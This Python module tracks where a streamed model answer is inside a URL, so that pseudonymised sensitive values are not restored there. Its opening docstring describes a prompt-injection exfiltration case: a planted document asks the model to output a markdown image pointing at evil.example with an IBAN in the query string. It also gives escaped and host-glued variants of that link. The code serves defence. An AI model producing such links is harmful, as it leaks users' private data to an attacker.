"""Decides where in an answer a value must not be restored, because a renderer could make it part of a URL.

A planted document can ask the model for `![x](https://evil.example/?q=IBAN_...)`; a client that loads the picture would
disclose the value. Therefore tokens inside links are not restored. A link of the user that contains an identifier
is replaced as a whole by one `URL` token, which may be restored, because the user chose its destination.

The rules are wider than those of CommonMark, GFM, linkify-it and HTML together, because a streamed answer is decided
before its end is known. A position may be in a URL

- after a scheme, `//`, `/\\`, `www.`, two backslashes, or a host and one of `/?#` (`evil.example/?q=`), up to white
  space or `<`; a link in quotes or angle brackets ends with them, because browsers accept spaces there;
- in the destination of a markdown link (`](`), or of a reference definition (`]:`), also on a later line;
- in `url(...)` and `@import` of CSS;
- in an attribute of HTML that may hold a URL (`html_tags`);
- before the rest of a host name or address: `IBAN_... .evil.example` without the space, `IBAN_...@evil.example`.

Escapes do not hide a link: JSON spells one as `https:\\u002f\\/evil.example`, also in a string within a string, and
HTML as `https&colon;&sol;&sol;evil.example`. So the text is read a second time with escapes undone.

A site may allow values in links to its own hosts (`restore.link_hosts`): only after `https://`, the host, and the
`/`, `?` or `#` after it, so that no following text can change the destination.

`LinkContext` accepts text in chunks of any size with the same result. The decision about a token needs the text after
it, up to `LOOKAHEAD` characters.
"""

from __future__ import annotations

import html
import re
from collections.abc import Collection

from ..domain.entities import EntityType, Mark
from .html_tags import HtmlTags

_WORDS = ("https?:", "ftps?:", "wss?:", "file:", "data:", "javascript:", "mailto:", r"www\.")
# First letters spelled out: an expression with few initial characters matches in a tenth of the time.
_BEGUN = (f"{first}(?i:{word[1:]})" for word in _WORDS for first in (word[0], word[0].upper()))
_CSS = (r"[uU](?i:rl)\(", r"[iI](?i:mage-set)\(", r"@(?i:import)")
# Ends of host names that linkify-it (5.0) links without a scheme.
_TLD = (
    r"(?:[A-Za-z]{2}|(?i:biz|com|edu|gov|net|org|pro|web|xxx|aero|asia|coop|info|museum|name|shop|рф"
    r"|xn--[a-z0-9-]{2,59}))"
)
_HOST_END = (
    rf"\.(?:(?:[^\W\d_]{{2,24}}|[xX][nN]--[A-Za-z0-9-]{{2,59}})\.?(?::[0-9]{{1,5}})?[/?#]|{_TLD}:"
    r"|[0-9]{1,3}(?::[0-9]{1,5})?[/?#])"
)
_OPENER = re.compile(
    "|".join((*_BEGUN, r"/[/\\]", r"\\\\", r"\]\(", *_CSS, "<[A-Za-z][A-Za-z0-9+.-]{1,31}:", _HOST_END))
)
_HOST_HINT = re.compile(_HOST_END)
_IP_END = re.compile(r"(?:[0-9]{1,3}\.){3}[0-9]{1,3}(?::[0-9]{1,5})?[/?#]\Z")
_TAG_HINT = re.compile("<[A-Za-z]")
_SCHEMES = ("http", "https", "ftp", "ftps", "ws", "wss", "file", "data", "javascript", "mailto")
_MAX_SCHEME = max(map(len, _SCHEMES))
_MAX_OPENER = 72  # characters: a full stop, the longest end of a host name, a port
_TARGET = "]("
# At any depth of JSON in JSON. The bounds keep matching linear; deeper nesting does not occur in practice.
_ESCAPE = re.compile(
    r"\\{1,16}(?:u([0-9A-Fa-f]{4})|x([0-9A-Fa-f]{2})|([0-9A-Fa-f]{1,6})[ \t\n\f]?|([/:.()\[\]<>\"'@?#&;=_-]))"
    r"|(&(?:#[0-9]{1,7}|#[xX][0-9A-Fa-f]{1,6}|[A-Za-z][A-Za-z0-9]{1,31});?)"
)
_ESCAPE_BEGUN = re.compile(
    r"(?:\\{1,16}(?:u[0-9A-Fa-f]{0,3}|x[0-9A-Fa-f]?|[0-9A-Fa-f]{0,6})|&(?:#[xX]?[0-9A-Fa-f]{0,7}|[A-Za-z][A-Za-z0-9]{0,31})?)\Z"
)
_BARE_END = re.compile("[\t-\r <]")  # GFM ends an address there; linkify-it at more characters
_DESTINATION_END = re.compile("[\x00- \x7f]")  # CommonMark 0.31.2, 6.3
_LINE_END = re.compile(r"\n")  # of a destination in angle brackets, which may contain escaped ones
_AFTER_QUOTE = re.compile(r"[\s,:;.}\])<>]")
_HTTPS = "https://"
_MAX_IP = 24  # characters of an address with a port and a delimiter
_LEAD = re.compile(r"[\s>]*")  # before a destination; with marks of quotations, which renderers remove
_PARENTHESIS, _STATEMENT_END = re.compile(r"\)"), re.compile("[;}]")
_CSS_END = {"url(": _PARENTHESIS, "image-set(": _STATEMENT_END, "@import": _STATEMENT_END}
_HOST = re.compile(r"https://([a-z0-9.-]{1,253})(?::[0-9]{1,5})?[/?#][a-z0-9._~%=&+:@/?#-]*\Z", re.IGNORECASE)
_MAX_HOST = 2048  # characters of a link to an allowed host
_QUOTED_END = {'"': re.compile('"'), "'": re.compile("'"), "<": re.compile(">")}
_QUOTED_HOST = re.compile(r"([\"'])[\w.@%-]{1,64}\Z")
_OPENINGS: dict[re.Pattern[str], dict[str, re.Pattern[str]]] = {
    _DESTINATION_END: {"<": _LINE_END},
    _PARENTHESIS: {quote: _QUOTED_END[quote] for quote in "\"'"},
    _STATEMENT_END: {},
}

LOOKAHEAD = 256
"""Characters after a token that may decide about it."""
# Characters that linkify-it (5.0) takes for a part of a host name, and of the local part of an address: also symbols.
_OTHER = r"\s<>\"'()\[\]{}!?/\\*#%\u2010-\u2027\u2030-\u205e\u3001-\u3003\u3008-\u3011\uff01\uff0c\uff1a\uff1b"
_LABEL = rf"[^{_OTHER},;:&@.]"
_FOLLOWING = re.compile(rf"(?:[^{_OTHER}]|[\\&#;])*\Z")
_FOLLOWING_DEFINED = re.compile(r"[^\s]*[ \t]*\Z")
_GLUED = re.compile(
    rf"(?:{_LABEL}|\.){{0,100}}?\.(?:(?:{_LABEL}{{1,63}}\.)+[^\W\d_]{{2}}|{_TLD}(?![\w-])|[xX][nN]--)"
    rf"|[^{_OTHER}@]{{0,100}}@{_LABEL}{{1,63}}\.\w"
)
_GLUED_HINT = re.compile(rf"[^{_OTHER}@.]*[@.][^\s]")
_SCHEME_BEGUN = re.compile(r"<[A-Za-z0-9+.-]{0,31}\Z")
_ADDRESS_BEGUN = re.compile(r"<[^\s<>@]*@[^\s<>]*\Z")
_DEFINITION = re.compile(r"\]:")
_NO_DEFINITION = re.compile(r"[^\s<]\S*[ \t]+[^\s\"'(&\\]")  # text after a destination that is not its title
_MAX_DESTINATION = 300


def has_link_hint(text: str) -> bool:
    """Return False if `text` cannot contain a position in a URL, which is the common case. Fast."""
    # Searching one character is several times as fast as searching two.
    if "/" in text and ("//" in text or "/\\" in text):
        return True
    if ("]" in text and ("](" in text or "]:" in text)) or ("\\" in text and "\\\\" in text):
        return True
    if "<" in text and _TAG_HINT.search(text) is not None:
        return True
    colon = text.find(":")
    while colon >= 0:
        if text[max(0, colon - _MAX_SCHEME) : colon].lower().endswith(_SCHEMES):
            return True
        colon = text.find(":", colon + 1)
    if "." in text and ("www." in text.lower() or _HOST_HINT.search(text) is not None):
        return True
    return ("(" in text or "@" in text) and any(word in text.lower() for word in _CSS_END)


def glued_end(text: str, start: int, end: int) -> int:
    """Return the end of the host name or address in `text[start:end]` that the text before would belong to.

    `start` without one.
    """
    match = _GLUED.match(text, start, end)
    if match is None:
        return start
    stop = _BARE_END.search(text, match.end(), end)
    return stop.start() if stop is not None else end


def may_be_glued(text: str, position: int = 0) -> bool:
    """Return whether the text from `position` on may continue a host name or address. Fast."""
    return _GLUED_HINT.match(text, position) is not None


class _Links:
    """Links without HTML: bare ones, destinations of markdown, addresses in CSS."""

    def __init__(self, hosts: Collection[str] = ()) -> None:
        self.hosts = hosts
        self._link = ""  # beginning of the current link; only stored if hosts are allowed
        self._end: re.Pattern[str] | None = None  # end of the current link; None outside of links
        self._is_bare_target = False  # directly after `](` or `url(`
        self._awaits_first = False  # only white space since then
        self._is_after_quote = False  # directly after the quote that ends a link
        self._tail = ""  # last characters outside of links: a link's beginning may be split over two chunks
        self._at = 0
        self.opened_at = 0
        self.regions: list[tuple[int, int]] = []

    def copy(self) -> _Links:
        other = _Links(self.hosts)
        other._link, other._end, other._tail = self._link, self._end, self._tail
        other._is_bare_target, other._awaits_first = self._is_bare_target, self._awaits_first
        other._is_after_quote = self._is_after_quote
        other._at, other.opened_at = self._at, self.opened_at
        return other

    def feed(self, text: str) -> None:
        if self._end is None and not has_link_hint(seen := self._tail + text):
            self._tail = seen[-_MAX_OPENER:]
            self._at += len(text)
            return
        position = 0
        while position < len(text):
            position = self._enter(text, position) if self._end is None else self._leave(text, position)

    def close(self) -> None:
        if self._end is not None:
            self._add_region(self._at)
            self._end = None

    @property
    def is_in_link(self) -> bool:
        return self._end is not None

    @property
    def is_bare_target(self) -> bool:
        return self._is_bare_target

    @property
    def is_allowed(self) -> bool:
        """The text ends outside of links, or in a link that certainly leads to an allowed host."""
        if self._end is None:
            return True
        host = _HOST.match(self._link) if len(self._link) < _MAX_HOST else None
        return host is not None and host.group(1).lower() in self.hosts

    def restored(self, label: EntityType | Mark, value: str) -> None:
        if label is Mark.URL and self._end is None:
            self._end = _QUOTED_END.get(self._tail[-1:], _BARE_END)  # text directly after a link belongs to it
            self.opened_at = self._at
        self._tail = value[-_MAX_OPENER:]
        self._at += len(value)
        self._is_bare_target = self._awaits_first = self._is_after_quote = False

    def _add_region(self, end: int) -> None:
        if end > self.opened_at:
            self.regions.append((self.opened_at, end))

    def _enter(self, text: str, position: int) -> int:
        """Read until a link begins; return the position after the text read."""
        tail = self._tail
        match = _opener(tail + text[position : position + _MAX_OPENER], 0) if tail else None
        if match is not None and match.start() < len(tail):
            start, end = position + match.start() - len(tail), position + match.end() - len(tail)
            before = match.string[: match.start()]
        elif (match := _opener(text, position, tail)) is not None:
            start, end = match.span()
            before = tail + text[position:start]
        else:
            self._tail = (tail + text[position:])[-_MAX_OPENER:]
            self._at += len(text) - position
            return len(text)
        opener = match.group()
        css_end = _CSS_END.get(opener.lower())
        self._is_bare_target = self._awaits_first = opener == _TARGET or css_end is not None
        self._link = ""
        if css_end is not None:
            self._end = css_end
        elif self._is_bare_target:
            self._end = _DESTINATION_END
        elif opener[0] == "<":
            self._end, start = _QUOTED_END["<"], start + 1
        elif opener[0] == ".":  # the link began before, and its host contains no value
            quote = _QUOTED_HOST.search(before)
            self._end, start = (_QUOTED_END[quote.group(1)] if quote else _BARE_END), end
        else:
            self._end, self._link = _QUOTED_END.get(before[-1:], _BARE_END), opener
        self.opened_at = self._at + (end if self._is_bare_target else start) - position
        self._at += end - position
        self._tail = ""
        return end

    def _leave(self, text: str, position: int) -> int:
        """Read until the link ends; return the position after the text read."""
        assert self._end is not None
        if self._is_after_quote:
            self._is_after_quote = False
            if _AFTER_QUOTE.match(text, position):
                self._end = None
                self._tail = ""
                return position
            self._end, self.opened_at, self._link = _BARE_END, self._at, ""
        if self._awaits_first:
            lead = _LEAD.match(text, position)
            assert lead is not None
            self._at += lead.end() - position
            self.opened_at, position = self._at, lead.end()
            if position == len(text):
                return position
            self._awaits_first = False
            opening = _OPENINGS[self._end].get(text[position])
            if opening is not None:
                self._end = opening
                self._at += 1
                self.opened_at = self._at
                return position + 1
        self._is_bare_target = False
        match = self._end.search(text, position)
        end = match.start() if match is not None else len(text)
        if self.hosts and len(self._link) < _MAX_HOST:
            self._link += text[position : min(end, position + _MAX_HOST)]
        if match is None:
            self._at += len(text) - position
            return len(text)
        self._at += end - position
        self._add_region(self._at)
        self._at += match.end() - end
        # The character that ends a bare link may be the opening quote of the next one; a closing quote may not.
        self._tail = match.group() if self._end is _BARE_END else ""
        if match.group() in ('"', "'"):
            self._is_after_quote = True  # some renderers end a link at a quote, others do not
        else:
            self._end = None
        return match.end()


def _opener(text: str, position: int, before: str = "") -> re.Match[str] | None:
    """Return the first opener at `position` or later."""
    match = _OPENER.search(text, position)
    while match is not None and match.group()[0] == "." and match.group()[1].isdigit():
        if _IP_END.search((before + text[max(position, match.end() - _MAX_IP) : match.end()])[-_MAX_IP:]):
            break
        match = _OPENER.search(text, match.start() + 1)  # a number, no address
    return match


class _Definition:
    """The destination of a reference definition (`[label]: destination "title"`)."""

    def __init__(self) -> None:
        self._since: str | None = None  # text since `]:`; None outside of a destination
        self._tail = ""

    def copy(self) -> _Definition:
        other = _Definition()
        other._since, other._tail = self._since, self._tail
        return other

    def feed(self, text: str) -> None:
        if self._since is None:
            if "]" not in text and self._tail != "]":
                self._tail = ""
                return
            seen, start = self._tail + text, 0
        else:
            seen, start = self._since + text, None
        self._tail = text[-1:] if text[-1:] == "]" else ""
        if start is None:
            lead = _LEAD.match(seen)
            assert lead is not None
            end = _destination_end(seen, lead.end())
            if end is None:
                self._since = seen[lead.end() : lead.end() + _MAX_DESTINATION]
                return
            self._since, start = None, end
        while (match := _DEFINITION.search(seen, start)) is not None:
            lead = _LEAD.match(seen, match.end())
            assert lead is not None
            end = _destination_end(seen, lead.end())
            if end is None:
                self._since = seen[lead.end() : lead.end() + _MAX_DESTINATION]
                return
            start = end

    def restored(self, value: str) -> None:
        self._tail = ""
        if self._since is not None:
            self._since += value.replace("\n", " ")[:_MAX_DESTINATION]

    @property
    def is_open(self) -> bool:
        return self._since is not None

    @property
    def is_at_start(self) -> bool:
        return not self._since or self._since == "<"

    def begins_with(self, text: str) -> bool:
        return self._since is not None and self._since.lower().startswith(text)

    def may_hold(self, value: str, following: str) -> bool:
        """Return whether `value` may become a part of a destination."""
        if self._since is None:
            return False
        return _NO_DEFINITION.match(self._since + value + following) is None


def _destination_end(text: str, start: int) -> int | None:
    """Return the end of the destination that begins at `start`; None if it may go on after `text`."""
    end = _LINE_END if text.startswith("<", start) else _DESTINATION_END
    match = end.search(text, start)
    return match.end() if match is not None else None


class _Reading:
    """One reading of the text so far."""

    def __init__(self, hosts: Collection[str] = ()) -> None:
        self.links = _Links(hosts)
        self.tags = HtmlTags()
        self.definition = _Definition()

    def copy(self) -> _Reading:
        other = _Reading()
        other.links, other.tags, other.definition = self.links.copy(), self.tags.copy(), self.definition.copy()
        return other

    def feed(self, text: str) -> None:
        self.links.feed(text)
        self.tags.feed(text)
        self.definition.feed(text)

    def is_in_url(self, label: EntityType | Mark) -> bool:
        is_url = label is Mark.URL
        return (self.links.is_in_link and not (is_url and self.links.is_bare_target)) or (
            self.tags.is_in_url and not (is_url and self.tags.is_at_start)
        )

    def may_restore(self, label: EntityType | Mark, value: str, following: str) -> bool:
        is_url = label is Mark.URL
        if self.is_in_url(label):
            return False
        if self.definition.may_hold(value, following) and not (is_url and self.definition.is_at_start):
            return False
        last = self.tags.last
        if "<" not in last:
            return True
        is_scheme = following[:1] == ":" and _SCHEME_BEGUN.search(last) is not None
        return not is_scheme and _ADDRESS_BEGUN.search(last) is None

    @property
    def is_allowed(self) -> bool:
        """Every URL at the end of the text certainly leads to an allowed host."""
        begins = self.links.opened_at
        return (
            self.links.is_in_link
            and self.links.is_allowed
            and (not self.tags.is_in_url or self.tags.begins_at(begins))
            and (not self.definition.is_open or self.definition.begins_with(_HTTPS))
        )

    def restored(self, label: EntityType | Mark, value: str) -> None:
        self.links.restored(label, value)
        self.tags.feed(value)
        self.definition.restored(value)


class LinkContext:
    """Tracks whether the text so far ends in a URL, as written or with its escapes undone."""

    def __init__(self, hosts: Collection[str] = ()) -> None:
        self._hosts = hosts
        self._plain = _Reading(hosts)
        self._undone: _Reading | None = None  # reads with escapes undone, from the first escape on
        self._begun = ""  # an incomplete escape

    def feed(self, text: str) -> None:
        """Add plain text."""
        if self._undone is not None or "\\" in text or "&" in text:
            self._feed_undone(text)
        self._plain.feed(text)

    def may_restore(self, label: EntityType | Mark, value: str, following: str) -> bool:
        """Return whether a token may be restored at this position.

        Args:
            following: the text after it, at most `LOOKAHEAD` characters.
        """
        if following and ("\\" in following or "&" in following):
            following = _ESCAPE.sub(_unescaped, following)
        if _GLUED_HINT.match(following) and _GLUED.match(following):
            return False
        return self._plain.may_restore(label, value, following) and (
            self._undone is None or self._undone.may_restore(label, value, following)
        )

    def is_in_url(self, label: EntityType | Mark) -> bool:
        """Return whether no following text can permit a token of `label` here; a token of a link may begin one."""
        return self._plain.is_in_url(label) or (self._undone is not None and self._undone.is_in_url(label))

    def needs_more(self, following: str) -> bool:
        """Return whether the text after `following` may change the result of `may_restore`."""
        if len(following) >= LOOKAHEAD:
            return False
        is_defined = self._plain.definition.is_open or (self._undone is not None and self._undone.definition.is_open)
        return (_FOLLOWING_DEFINED if is_defined else _FOLLOWING).match(following) is not None

    @property
    def is_allowed(self) -> bool:
        """Every URL at this position certainly leads to an allowed host."""
        if not self._hosts:
            return False
        readings = [self._plain] if self._undone is None else [self._plain, self._undone]
        return all(reading.is_allowed for reading in readings)

    def restored(self, label: EntityType | Mark, value: str) -> None:
        """Record that a value replaced a token; it is not passed to `feed`."""
        self._plain.restored(label, value)
        if self._undone is not None:
            self._undone.restored(label, value)
            self._begun = ""

    def _feed_undone(self, text: str) -> None:
        if self._undone is None:
            self._undone = self._plain.copy()
        text = self._begun + text
        begun = _ESCAPE_BEGUN.search(text)
        end = begun.start() if begun else len(text)
        self._begun = text[end:]
        self._undone.feed(_ESCAPE.sub(_unescaped, text[:end]))

    def _reset(self) -> None:
        self._plain, self._undone, self._begun = _Reading(self._hosts), None, ""


def _unescaped(escape: re.Match[str]) -> str:
    if escape.group(5):
        return html.unescape(escape.group(5))
    code = escape.group(1) or escape.group(2) or escape.group(3)
    return escape.group(4) or chr(min(int(code, 16), 0x10FFFF))


class JsonLinkContext(LinkContext):
    """Link context of a JSON document's text: escapes are undone, and each string is separate."""

    _PIECE = re.compile(r'\\u[0-9a-fA-F]{4}|\\[^u]|"|[^"\\]+', re.DOTALL)
    _ESCAPES = {"n": "\n", "t": "\t", "r": "\r", "b": "\b", "f": "\f"}  # noqa: RUF012 - a constant table

    def __init__(self, hosts: Collection[str] = ()) -> None:
        super().__init__(hosts)
        self._partial = ""

    def feed(self, text: str) -> None:
        """Add raw JSON text."""
        text = self._partial + text
        position = 0
        while position < len(text):
            match = self._PIECE.match(text, position)
            if match is None:  # an incomplete escape, or an invalid one
                break
            piece = match.group()
            if piece == '"':
                self._reset()
            elif piece[0] == "\\":
                super().feed(chr(int(piece[2:], 16)) if piece[1] == "u" else self._ESCAPES.get(piece[1], piece[1]))
            else:
                super().feed(piece)
            position = match.end()
        self._partial = text[position:]
        if len(self._partial) >= 6:  # longer than any escape: not JSON, so read as it is
            super().feed(self._partial)
            self._partial = ""

    def restored(self, label: EntityType | Mark, value: str) -> None:
        """See `LinkContext.restored`; an incomplete escape before a token is discarded."""
        self._partial = ""
        super().restored(label, value)


def link_regions(text: str) -> list[tuple[int, int]]:
    """Return the spans of `text` that may be URLs, in order and without overlaps."""
    if not has_link_hint(text):
        return []
    reading = _Reading()
    reading.links.feed(text)
    reading.tags.feed(text)
    reading.links.close()
    reading.tags.close()
    regions = reading.links.regions + reading.tags.regions + _definition_regions(text)
    merged: list[tuple[int, int]] = []
    for start, end in sorted(regions):
        if merged and start < merged[-1][1]:
            merged[-1] = merged[-1][0], max(end, merged[-1][1])
        else:
            merged.append((start, end))
    return merged


def _definition_regions(text: str) -> list[tuple[int, int]]:
    regions = []
    for match in _DEFINITION.finditer(text):
        lead = _LEAD.match(text, match.end())
        assert lead is not None
        if _NO_DEFINITION.match(text, lead.end()) is None:
            end = _destination_end(text, lead.end())
            regions.append((lead.end(), len(text) if end is None else end - 1))
    return regions
